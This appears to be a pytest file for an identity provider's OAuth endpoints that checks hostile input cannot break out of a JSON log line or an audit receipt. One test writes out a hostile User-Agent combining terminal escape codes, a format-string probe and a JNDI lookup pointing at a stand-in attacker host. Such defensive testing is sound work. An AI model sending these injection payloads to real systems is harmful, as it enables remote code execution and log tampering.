"""IJ-01: whatever a visitor writes wherever, a log line stays one JSON object, and a receipt one printable line."""

from __future__ import annotations

import json
from urllib.parse import urlencode

import pytest
from flask import Flask
from sqlalchemy import select
from werkzeug.test import Client

from idp.attempts import drain
from idp.models import Attempt, AttemptStep, AuditEvent
from idp.parts import Parts
from tests import canaries
from tests.journey import Walker, add_carol
from tests.test_logs import HOSTILE

AUTHORIZE = ("client_id", "redirect_uri", "response_type", "scope", "state", "nonce", "prompt", "max_age", "login_hint")
AUTHORIZE += ("id_token_hint", "claims", "ui_locales", "acr_values", "code_challenge", "response_mode", "request_uri")
FORMS = {
    "/login": ("p", "username", "csrf"),
    "/login/password": ("p", "username", "password", "csrf"),
    "/consent": ("p", "decision"),
    "/logout": ("id_token_hint", "client_id", "post_logout_redirect_uri", "state"),
    "/token": ("grant_type", "code", "client_id", "client_secret", "redirect_uri", "code_verifier", "refresh_token"),
    "/introspect": ("token", "client_id", "client_secret"),
    "/revoke": ("token", "client_id"),
    "/userinfo": ("access_token",),
}
# As a server hands over the bytes of a header: Latin-1, without what ends a line.
HEADERS = ("User-Agent", "Accept-Language", "Authorization", "Origin", "Cookie", "X-Forwarded-For", "Referer")


@pytest.mark.parametrize("text", [text for text in HOSTILE if "\ud800" not in text])
def test_ij_01_no_input_breaks_out_of_a_log_line_or_a_receipt(text: str, app: Flask, parts: Parts) -> None:
    log = canaries.folder() / "this-process.log"
    before = log.stat().st_size
    browser = Client(app)
    header = "".join(character for character in text if character not in "\r\n\0\x0b").encode("utf-8").decode("latin-1")
    statuses = [
        browser.get(f"/{text}").status_code,
        browser.get("/language", query_string={"to": text, "back": text}).status_code,
    ]
    right = {"client_id": "C1", "redirect_uri": "https://rp1.example/cb", "response_type": "code", "scope": "openid"}
    statuses += [browser.get("/authorize", query_string={**right, name: text}).status_code for name in AUTHORIZE]
    for path, names in FORMS.items():
        for name in names:
            form = urlencode({**({"grant_type": "authorization_code"} if path == "/token" else {}), name: text})
            kind = "application/x-www-form-urlencoded"
            statuses.append(browser.post(path, data=form, content_type=kind).status_code)
    for name in HEADERS:
        for path in ("/authorize?" + urlencode(right), "/userinfo", "/me", "/health/ready"):
            statuses.append(browser.get(path, headers={name: header}).status_code)
    assert max(statuses) < 500
    written = log.read_bytes()[before:].decode("ascii")
    assert len(written.splitlines()) > 20
    for line in written.splitlines():
        assert line.isprintable() and isinstance(json.loads(line), dict)
    assert receipts_are_printable(parts) > 20


def test_ij_01_a_signed_in_persons_browser_breaks_out_of_nothing(walker: Walker, parts: Parts) -> None:
    add_carol(parts)
    walker.user_agent = "Mozilla/5.0 \x1b[2J\x1b]0;admin\x07 %s%n ${jndi:ldap://evil.example/a} \u202e".encode().decode(
        "latin-1"
    )
    walker.code()
    assert receipts_are_printable(parts) > 0


def receipts_are_printable(parts: Parts) -> int:
    """Assert it of every receipt and audit row; return the number of steps."""
    parts.attempts.flush()
    drain(parts.store, parts.database)
    with parts.database.reading() as db:
        for attempt in db.scalars(select(Attempt)):
            assert f"{attempt.client_id}{attempt.door}{attempt.reason}".isprintable()
        for event in db.scalars(select(AuditEvent)):
            assert all(str(value).isprintable() for value in event.facts.values())
        steps = db.scalars(select(AttemptStep)).all()
        for step in steps:
            assert all(str(value).isprintable() for value in step.facts.values())
        return len(steps)
